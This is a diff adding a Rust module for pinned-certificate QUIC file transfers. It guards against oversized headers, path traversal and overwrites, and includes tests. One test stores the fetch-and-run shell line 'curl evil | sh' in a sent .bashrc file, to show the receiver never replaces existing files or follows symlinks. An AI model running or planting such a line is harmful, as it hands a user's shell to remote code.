@@ -0,0 +1,504 @@
+//! One-off file sends between two hosts over QUIC, outside any deal. The
+//! sender connects with [`FILE_ALPN`] and writes a length-prefixed
+//! [`FileHeader`] followed by the file's bytes on one unidirectional
+//! stream; the receiver writes them into a directory.
+//!
+//! The receiver's certificate is self-signed, so the sender pins its
+//! [`CertFingerprint`], handed over out of band (`spare-net recv` prints
+//! it), instead of consulting any trust store.
+
+use anyhow::{Context, Result};
+use quinn::{Endpoint, Incoming};
+use rustls::{
+    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
+    crypto::{ring, verify_tls12_signature, verify_tls13_signature, CryptoProvider},
+    pki_types::{CertificateDer, ServerName, UnixTime},
+    CertificateError, DigitallySignedStruct, Error as RustlsError, SignatureScheme,
+};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::{
+    fmt,
+    net::SocketAddr,
+    path::{Path, PathBuf},
+    str::FromStr,
+    sync::Arc,
+    time::Instant,
+};
+use thiserror::Error as ThisError;
+use tokio::{
+    fs::{self, File},
+    io::{self, AsyncReadExt},
+};
+
+use crate::connection::{client_config_with, server_config_with_cert, EndpointLimits};
+
+/// ALPN of file transfer connections, kept apart from deal connections so
+/// neither side mistakes one for the other.
+pub const FILE_ALPN: &[u8] = b"sparenet-file/1";
+/// Largest encoded [`FileHeader`], bounding a hostile file name.
+const MAX_HEADER_BYTES: u32 = 4096;
+
+/// Sent ahead of the file's bytes.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct FileHeader {
+    /// file name only; any directories are dropped by the receiver
+    pub name: String,
+    pub len: u64,
+}
+
+/// A file written by [`receive_file`].
+#[derive(Debug, Clone, Serialize)]
+pub struct ReceivedFile {
+    pub from: SocketAddr,
+    /// where the file was saved: the sent name, numbered if it was taken
+    pub path: PathBuf,
+    pub bytes: u64,
+    pub elapsed_ms: u64,
+}
+
+#[derive(Debug, ThisError)]
+pub enum TransferError {
+    #[error("file name {0:?} has nothing to save under")]
+    BadName(String),
+    #[error("file of {len} bytes is over the {max}-byte limit")]
+    TooLarge { len: u64, max: u64 },
+    #[error("header of {0} bytes is over the {MAX_HEADER_BYTES}-byte limit")]
+    HeaderTooLarge(u32),
+    #[error("expected {expected} bytes, received {received}")]
+    LengthMismatch { expected: u64, received: u64 },
+    #[error("{0:?} is not a 64-digit hex SHA-256 fingerprint")]
+    BadFingerprint(String),
+    #[error("no free name to save {0:?} under")]
+    NoFreeName(String),
+}
+
+/// SHA-256 of a receiver's DER certificate, shown as lowercase hex.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct CertFingerprint(pub [u8; 32]);
+
+impl CertFingerprint {
+    pub fn of(cert: &CertificateDer<'_>) -> Self {
+        Self(Sha256::digest(cert.as_ref()).into())
+    }
+}
+
+impl fmt::Display for CertFingerprint {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        self.0.iter().try_for_each(|b| write!(f, "{b:02x}"))
+    }
+}
+
+impl FromStr for CertFingerprint {
+    type Err = TransferError;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let bad = || TransferError::BadFingerprint(s.to_string());
+        if s.len() != 64 || !s.is_ascii() {
+            return Err(bad());
+        }
+        let mut bytes = [0; 32];
+        for (i, byte) in bytes.iter_mut().enumerate() {
+            *byte = u8::from_str_radix(&s[2 * i..2 * i + 2], 16).map_err(|_| bad())?;
+        }
+        Ok(Self(bytes))
+    }
+}
+
+/// Accepts only the server certificate with the pinned fingerprint, but
+/// checks handshake signatures like any verifier. Used in every build, so
+/// sends work the same with or without the `testing` feature.
+#[derive(Debug)]
+struct PinnedCert {
+    fingerprint: CertFingerprint,
+    provider: Arc<CryptoProvider>,
+}
+
+impl ServerCertVerifier for PinnedCert {
+    fn verify_server_cert(
+        &self,
+        end_entity: &CertificateDer<'_>,
+        _intermediates: &[CertificateDer<'_>],
+        _server_name: &ServerName<'_>,
+        _ocsp_response: &[u8],
+        _now: UnixTime,
+    ) -> Result<ServerCertVerified, RustlsError> {
+        if CertFingerprint::of(end_entity) == self.fingerprint {
+            Ok(ServerCertVerified::assertion())
+        } else {
+            Err(RustlsError::InvalidCertificate(
+                CertificateError::ApplicationVerificationFailure,
+            ))
+        }
+    }
+
+    fn verify_tls12_signature(
+        &self,
+        message: &[u8],
+        cert: &CertificateDer<'_>,
+        dss: &DigitallySignedStruct,
+    ) -> Result<HandshakeSignatureValid, RustlsError> {
+        verify_tls12_signature(
+            message,
+            cert,
+            dss,
+            &self.provider.signature_verification_algorithms,
+        )
+    }
+
+    fn verify_tls13_signature(
+        &self,
+        message: &[u8],
+        cert: &CertificateDer<'_>,
+        dss: &DigitallySignedStruct,
+    ) -> Result<HandshakeSignatureValid, RustlsError> {
+        verify_tls13_signature(
+            message,
+            cert,
+            dss,
+            &self.provider.signature_verification_algorithms,
+        )
+    }
+
+    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
+        self.provider
+            .signature_verification_algorithms
+            .supported_schemes()
+    }
+}
+
+/// Endpoint on `listen_addr` that only accepts file transfers, and the
+/// fingerprint senders pin to reach it.
+pub fn open_file_receiver(
+    listen_addr: SocketAddr,
+    limits: &EndpointLimits,
+) -> Result<(Endpoint, CertFingerprint)> {
+    let (config, cert) = server_config_with_cert(limits, &[FILE_ALPN])?;
+    let endpoint = Endpoint::server(config, listen_addr)?;
+    Ok((endpoint, CertFingerprint::of(&cert)))
+}
+
+/// Client endpoint on an ephemeral port that offers only [`FILE_ALPN`] and
+/// only trusts the receiver whose certificate has `receiver`'s fingerprint.
+pub fn open_file_sender(limits: &EndpointLimits, receiver: CertFingerprint) -> Result<Endpoint> {
+    let provider = Arc::new(ring::default_provider());
+    let crypto = rustls::ClientConfig::builder_with_provider(provider.clone())
+        .with_protocol_versions(&[&rustls::version::TLS13])?
+        .dangerous()
+        .with_custom_certificate_verifier(Arc::new(PinnedCert {
+            fingerprint: receiver,
+            provider,
+        }))
+        .with_no_client_auth();
+    let mut ep = Endpoint::client("0.0.0.0:0".parse().unwrap())
+        .context("failed to create client endpoint")?;
+    ep.set_default_client_config(client_config_with(limits, FILE_ALPN, crypto));
+    Ok(ep)
+}
+
+/// Stream the file at `path` to the receiver at `peer_addr`, returning the
+/// number of bytes sent once the receiver has closed the connection.
+pub async fn send_file(endpoint: &Endpoint, peer_addr: SocketAddr, path: &Path) -> Result<u64> {
+    let mut file = File::open(path)
+        .await
+        .with_context(|| format!("failed to open {}", path.display()))?;
+    let header = FileHeader {
+        name: path
+            .file_name()
+            .and_then(|name| name.to_str())
+            .ok_or_else(|| TransferError::BadName(path.display().to_string()))?
+            .to_string(),
+        len: file.metadata().await?.len(),
+    };
+    let header_bytes = bincode::serialize(&header)?;
+
+    let connection = endpoint
+        .connect(peer_addr, "localhost")
+        .context("failed to start connection")?
+        .await
+        .context("connection handshake failed")?;
+    let mut uni = connection
+        .open_uni()
+        .await
+        .context("failed to open uni stream")?;
+    uni.write_all(&(header_bytes.len() as u32).to_be_bytes())
+        .await?;
+    uni.write_all(&header_bytes).await?;
+    let sent = io::copy(&mut file, &mut uni)
+        .await
+        .context("failed to write file into uni stream")?;
+    uni.finish()?;
+    // the receiver closes once the file is on disk
+    connection.closed().await;
+    Ok(sent)
+}
+
+/// Most names [`receive_file`] tries before giving up on a file.
+const MAX_NAME_ATTEMPTS: usize = 1000;
+
+/// `name`, or for later `attempt`s `name-1`, `name-2`, ... ahead of any
+/// extension.
+fn numbered(name: &Path, attempt: usize) -> PathBuf {
+    if attempt == 0 {
+        return name.to_path_buf();
+    }
+    let mut numbered = name.file_stem().unwrap_or_default().to_os_string();
+    numbered.push(format!("-{attempt}"));
+    if let Some(extension) = name.extension() {
+        numbered.push(".");
+        numbered.push(extension);
+    }
+    PathBuf::from(numbered)
+}
+
+/// Claim a name in `dir` for `name` that no file (or symlink) has yet: an
+/// empty placeholder at the final path plus the `.part` file the bytes go
+/// to, both created exclusively so nothing existing is followed or
+/// replaced.
+async fn reserve(dir: &Path, name: &Path) -> Result<(PathBuf, PathBuf, File)> {
+    for attempt in 0..MAX_NAME_ATTEMPTS {
+        let path = dir.join(numbered(name, attempt));
+        let mut partial = path.clone().into_os_string();
+        partial.push(".part");
+        let partial = PathBuf::from(partial);
+        match File::options()
+            .write(true)
+            .create_new(true)
+            .open(&path)
+            .await
+        {
+            Ok(_) => {}
+            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => continue,
+            Err(e) => {
+                return Err(e).with_context(|| format!("failed to create {}", path.display()))
+            }
+        }
+        match File::options()
+            .write(true)
+            .create_new(true)
+            .open(&partial)
+            .await
+        {
+            Ok(file) => return Ok((path, partial, file)),
+            Err(e) => {
+                let _ = fs::remove_file(&path).await;
+                if e.kind() != io::ErrorKind::AlreadyExists {
+                    return Err(e)
+                        .with_context(|| format!("failed to create {}", partial.display()));
+                }
+            }
+        }
+    }
+    Err(TransferError::NoFreeName(name.display().to_string()).into())
+}
+
+/// Complete the handshake for `incoming` and write the file it carries into
+/// `dir`, refusing files over `max_bytes`. The file is written under a
+/// temporary `.part` name and renamed once complete. Existing files are
+/// never replaced: if the name is taken the file is saved as `name-1`,
+/// `name-2`, ... instead (see [`ReceivedFile::path`]). Nothing is left
+/// behind when a transfer fails.
+pub async fn receive_file(incoming: Incoming, dir: &Path, max_bytes: u64) -> Result<ReceivedFile> {
+    let started = Instant::now();
+    let from = incoming.remote_address();
+    let conn = incoming
+        .accept()
+        .context("connection handshake failed")?
+        .await
+        .context("connection handshake failed")?;
+    let mut uni = conn
+        .accept_uni()
+        .await
+        .context("failed to accept unidirectional stream")?;
+
+    let header_len = uni.read_u32().await.context("failed to read header")?;
+    if header_len > MAX_HEADER_BYTES {
+        return Err(TransferError::HeaderTooLarge(header_len).into());
+    }
+    let mut header_bytes = vec![0; header_len as usize];
+    uni.read_exact(&mut header_bytes)
+        .await
+        .context("failed to read header")?;
+    let header: FileHeader = bincode::deserialize(&header_bytes).context("decoding header")?;
+    if header.len > max_bytes {
+        return Err(TransferError::TooLarge {
+            len: header.len,
+            max: max_bytes,
+        }
+        .into());
+    }
+    // never let the sender pick a directory
+    let name = Path::new(&header.name)
+        .file_name()
+        .ok_or_else(|| TransferError::BadName(header.name.clone()))?;
+    let (path, partial, mut file) = reserve(dir, Path::new(name)).await?;
+
+    let received = async {
+        // one byte past the declared length is enough to tell it was exceeded
+        let n = io::copy(&mut (&mut uni).take(header.len + 1), &mut file)
+            .await
+            .context("failed to read file from uni stream")?;
+        if n != header.len {
+            return Err(TransferError::LengthMismatch {
+                expected: header.len,
+                received: n,
+            }
+            .into());
+        }
+        file.sync_all().await?;
+        // replaces only our own placeholder
+        fs::rename(&partial, &path).await?;
+        Ok(n)
+    }
+    .await;
+    let received = match received {
+        Ok(n) => n,
+        Err(e) => {
+            let _ = fs::remove_file(&partial).await;
+            let _ = fs::remove_file(&path).await;
+            return Err(e);
+        }
+    };
+    conn.close(0u32.into(), b"received");
+    Ok(ReceivedFile {
+        from,
+        path,
+        bytes: received,
+        elapsed_ms: started.elapsed().as_millis() as u64,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::connection::next_incoming;
+
+    #[tokio::test]
+    /// a file arrives intact under its own name, and a file over the
+    /// receiver's limit is refused without being written
+    async fn send_and_receive_file() {
+        let dir = std::env::temp_dir().join(format!("sparenet-transfer-{}", std::process::id()));
+        let (outbox, inbox) = (dir.join("out"), dir.join("in"));
+        std::fs::create_dir_all(&outbox).unwrap();
+        std::fs::create_dir_all(&inbox).unwrap();
+        let source = outbox.join("build.tar");
+        let contents: Vec<u8> = (0..200_000u32).map(|i| i as u8).collect();
+        std::fs::write(&source, &contents).unwrap();
+
+        let limits = EndpointLimits::default();
+        let (receiver, fingerprint) =
+            open_file_receiver("127.0.0.1:0".parse().unwrap(), &limits).unwrap();
+        let addr = receiver.local_addr().unwrap();
+        let sender = open_file_sender(&limits, fingerprint).unwrap();
+
+        let server = {
+            let (receiver, inbox) = (receiver.clone(), inbox.clone());
+            tokio::spawn(async move {
+                let incoming = next_incoming(&receiver).await.unwrap();
+                receive_file(incoming, &inbox, 1 << 20).await
+            })
+        };
+        assert_eq!(
+            send_file(&sender, addr, &source).await.unwrap(),
+            contents.len() as u64
+        );
+        let received = server.await.unwrap().unwrap();
+        assert_eq!(received.path, inbox.join("build.tar"));
+        assert_eq!(received.bytes, contents.len() as u64);
+        assert_eq!(std::fs::read(&received.path).unwrap(), contents);
+
+        let server = {
+            let inbox = inbox.clone();
+            tokio::spawn(async move {
+                let incoming = next_incoming(&receiver).await.unwrap();
+                receive_file(incoming, &inbox, 1000).await
+            })
+        };
+        let _ = send_file(&sender, addr, &source).await;
+        let err = server.await.unwrap().unwrap_err();
+        assert!(matches!(
+            err.downcast_ref::<TransferError>(),
+            Some(TransferError::TooLarge { max: 1000, .. })
+        ));
+        assert!(!inbox.join("build.tar.part").exists());
+        assert!(!inbox.join("build-1.tar").exists());
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    /// a name already in use, even by a symlink, gets a numbered variant and
+    /// the existing file is left alone
+    async fn existing_files_are_kept() {
+        let dir = std::env::temp_dir().join(format!("sparenet-keep-{}", std::process::id()));
+        let (outbox, inbox) = (dir.join("out"), dir.join("in"));
+        std::fs::create_dir_all(&outbox).unwrap();
+        std::fs::create_dir_all(&inbox).unwrap();
+        let source = outbox.join(".bashrc");
+        std::fs::write(&source, "curl evil | sh").unwrap();
+        std::fs::write(inbox.join(".bashrc"), "mine").unwrap();
+        let target = dir.join("target");
+        std::fs::write(&target, "untouched").unwrap();
+        std::os::unix::fs::symlink(&target, inbox.join(".bashrc-1")).unwrap();
+        std::os::unix::fs::symlink(&target, inbox.join(".bashrc-2.part")).unwrap();
+
+        let limits = EndpointLimits::default();
+        let (receiver, fingerprint) =
+            open_file_receiver("127.0.0.1:0".parse().unwrap(), &limits).unwrap();
+        let addr = receiver.local_addr().unwrap();
+        let sender = open_file_sender(&limits, fingerprint).unwrap();
+        let server = {
+            let inbox = inbox.clone();
+            tokio::spawn(async move {
+                let incoming = next_incoming(&receiver).await.unwrap();
+                receive_file(incoming, &inbox, 1 << 20).await
+            })
+        };
+        send_file(&sender, addr, &source).await.unwrap();
+        let received = server.await.unwrap().unwrap();
+
+        assert_eq!(received.path, inbox.join(".bashrc-3"));
+        assert_eq!(std::fs::read(&received.path).unwrap(), b"curl evil | sh");
+        assert_eq!(std::fs::read(inbox.join(".bashrc")).unwrap(), b"mine");
+        assert_eq!(std::fs::read(&target).unwrap(), b"untouched");
+        assert!(!inbox.join(".bashrc-2").exists());
+        assert!(!inbox.join(".bashrc-3.part").exists());
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    /// the number goes ahead of the extension
+    fn numbered_names() {
+        assert_eq!(numbered(Path::new("a.tar"), 0), Path::new("a.tar"));
+        assert_eq!(numbered(Path::new("a.tar"), 2), Path::new("a-2.tar"));
+        assert_eq!(numbered(Path::new("README"), 1), Path::new("README-1"));
+    }
+
+    #[tokio::test]
+    /// fingerprints round-trip through their hex form, and a sender pinning
+    /// another certificate fails the handshake
+    async fn pinned_fingerprint_enforced() {
+        let limits = EndpointLimits::default();
+        let (receiver, fingerprint) =
+            open_file_receiver("127.0.0.1:0".parse().unwrap(), &limits).unwrap();
+        assert_eq!(
+            fingerprint.to_string().parse::<CertFingerprint>().unwrap(),
+            fingerprint
+        );
+        assert!("abc".parse::<CertFingerprint>().is_err());
+
+        let addr = receiver.local_addr().unwrap();
+        let receiving = tokio::spawn(async move {
+            let incoming = next_incoming(&receiver).await.unwrap();
+            incoming.accept().unwrap().await
+        });
+        let sender = open_file_sender(&limits, CertFingerprint([0; 32])).unwrap();
+        let err = sender
+            .connect(addr, "localhost")
+            .unwrap()
+            .await
+            .unwrap_err();
+        assert!(matches!(err, quinn::ConnectionError::TransportError(_)));
+        assert!(receiving.await.unwrap().is_err());
+    }
+}